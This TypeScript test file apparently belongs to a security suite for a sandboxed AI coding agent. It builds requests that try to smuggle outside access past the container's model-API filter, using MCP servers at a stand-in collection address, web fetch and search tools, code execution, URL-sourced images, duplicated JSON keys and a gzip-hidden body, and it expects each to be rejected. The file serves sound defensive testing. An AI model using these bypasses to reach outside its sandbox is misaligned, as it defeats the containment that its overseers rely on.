/** Requests to the model, as the CLI sends them, with something in them that the model's side would do with our key. */
import type { Attempt } from '../attempt.ts';

/** Nobody may hear of it outside of the container. */
export const ADDRESS = 'https://outside.example/collect?word=heron-7';

const SOCKET = '/run/claude-hooks/model.sock';
const REQUEST = {
  model: 'claude-sonnet-5-5',
  max_tokens: 9,
  messages: [{ role: 'user', content: 'hi' }],
};

interface Smuggled {
  name: string;
  /** fields beside or instead of the usual ones; or the whole body */
  body?: object;
  text?: string;
  header?: string;
  shows: RegExp;
}

const says = (...content: unknown[]) => ({ messages: [{ role: 'user', content }] });
const picture = (source: unknown) => ({ type: 'image', source });
const byAddress = { type: 'url', url: ADDRESS };

const SMUGGLED: Smuggled[] = [
  {
    name: 'MCP servers',
    body: { mcp_servers: [{ type: 'url', url: ADDRESS, name: 'x' }] },
    shows: /mcp_servers is not on the list/,
  },
  {
    name: 'web search',
    body: { tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
    shows: /tools\[0\]\.type is \\"web_search_20250305/,
  },
  {
    name: 'web fetch',
    body: { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
    shows: /tools\[0\]\.type is \\"web_fetch_20250910/,
  },
  {
    name: 'code execution',
    body: { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
    shows: /tools\[0\]\.type is \\"code_execution/,
  },
  {
    name: 'a document by address',
    body: says({ type: 'document', source: byAddress }),
    shows: /source\.type is \\"url/,
  },
  { name: 'a picture by address', body: says(picture(byAddress)), shows: /source\.type is \\"url/ },
  {
    name: 'a picture by address, in a result',
    body: {
      messages: [
        ...REQUEST.messages,
        { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: {} }] },
        {
          role: 'user',
          content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: [picture(byAddress)] }],
        },
      ],
    },
    shows: /content\[0\]\.content\[0\]\.source\.type is \\"url/,
  },
  {
    name: 'a picture by file',
    body: says(picture({ type: 'file', file_id: 'file_1' })),
    shows: /source\.type is \\"file/,
  },
  {
    name: 'skills in a container',
    body: { container: { skills: [{ type: 'anthropic', skill_id: 'pdf' }] } },
    shows: /container is not on the list/,
  },
  {
    name: 'a beta',
    header: 'anthropic-beta: mcp-client-2025-11-20',
    shows: /Unexpected value\(s\) `mcp-client-2025-11-20`/,
  },
  { name: 'a new field', body: { agents: [{ url: ADDRESS }] }, shows: /agents is not on the list/ },
  {
    name: 'a dearer model',
    body: { model: 'claude-mythos-5' },
    shows: /may not use the model claude-mythos-5/,
  },
  {
    name: 'MCP servers, with a name given twice',
    text: JSON.stringify(REQUEST).replace('{', `{"mcp_servers":[{"url":"${ADDRESS}"}],"mcp_servers":[],`),
    shows: /mcp_servers is not on the list/,
  },
  {
    name: 'what a compressed body hides',
    text: 'as good as compressed',
    header: 'content-encoding: gzip',
    shows: /Only an uncompressed body passes/,
  },
];

export const smuggling = (): Attempt[] =>
  SMUGGLED.map(({ name, body, text, header, shows }) => ({
    name: `the model’s side is asked for ${name}`,
    script: `{\n${ask(text ?? JSON.stringify({ ...REQUEST, ...body }), header)}} | tee /tmp/said
grep -q 'HTTP/1.1 200' /tmp/said && echo SUCCEEDED`,
    shows,
    audit: { door: 'model', action: /^POST \/v1\/messages\?beta=true$/ },
  }));

function ask(body: string, header?: string): string {
  const head = [
    'POST /v1/messages?beta=true HTTP/1.1',
    'host: localhost',
    'content-type: application/json',
    ...(header === undefined ? [] : [header]),
    `content-length: ${body.length}`,
    'connection: close',
  ];
  return `perl $LIB/http ${SOCKET} <<'END'\n${head.join('\n')}\n\n${body}\nEND\n`;
}
